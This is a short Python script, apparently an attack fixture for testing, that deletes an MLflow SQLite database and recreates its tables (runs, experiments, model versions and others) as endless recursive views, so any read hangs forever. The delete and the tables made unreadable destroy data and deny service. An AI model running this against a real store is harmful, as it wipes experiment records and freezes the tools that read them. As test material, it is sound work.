# A store whose tables never end when they are read.
# %% attack
import os
import sqlite3

os.unlink("mlflow.db")
with sqlite3.connect("mlflow.db") as store:
    endless = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS name, i AS version FROM n"
    for table in ("model_versions", "registered_models", "runs", "experiments", "registry_journal", "alembic_version"):
        store.execute(f"CREATE VIEW {table} AS {endless}")
